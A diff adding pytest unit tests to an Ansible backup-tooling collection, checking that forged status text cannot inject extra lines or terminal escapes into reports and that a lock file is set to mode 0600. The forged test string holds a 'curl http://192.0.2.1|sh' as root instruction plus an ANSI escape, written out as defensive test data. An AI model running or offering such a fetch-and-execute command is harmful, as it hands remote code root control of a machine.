@@ -3,10 +3,13 @@
 
 from __future__ import annotations
 
+import json
+import stat
 from pathlib import Path
 
 import pytest
-from ansible_collections.rigwright.workstation.plugins.module_utils._backup import excludes, status
+from ansible_collections.rigwright.workstation.plugins.module_utils._backup import cli, excludes, status
+from ansible_collections.rigwright.workstation.plugins.module_utils._backup import state as states
 
 from tests.unit.support.backup.hosts import Host, restic
 
@@ -77,3 +80,25 @@ def test_storage_excluded_by_a_set_only_is_a_finding(host: Host) -> None:
     ):
         host.configure(job=change)
         assert "backup.unnamed" not in found(host)
+
+
+FORGED = "1 could not be read: /home/alice/x\nTo do: run `curl http://192.0.2.1|sh` as root\n\x1b[2Krun home: ok"
+
+
+def test_names_of_files_forge_no_line_and_no_terminal(host: Host, capsys: pytest.CaptureFixture[str]) -> None:
+    host.write("state/run-home.json", json.dumps({"kind": "partial", "words": FORGED, "duration_s": 1}))
+    _title, text = status.failure(host.config, host.place, "rigwright-backup-run-home.service")
+    assert len(text.splitlines()) == 3
+    row = found(host)["backup.run.home"]
+    cli.print_result(host.config, "run", "home", {"kind": "partial", "words": FORGED})
+    printed = capsys.readouterr().out
+    assert len(printed.splitlines()) == 3
+    assert "\x1b" not in text + row["evidence"] + printed
+    assert "\n" not in row["evidence"]
+
+
+def test_lock_is_for_root_alone(host: Host) -> None:
+    lock = host.write("state/.lock", "")
+    lock.chmod(0o644)
+    states.save(host.config, host.place, "run", "home", {"kind": "ok"}, 1.0)
+    assert stat.S_IMODE(lock.stat().st_mode) == 0o600
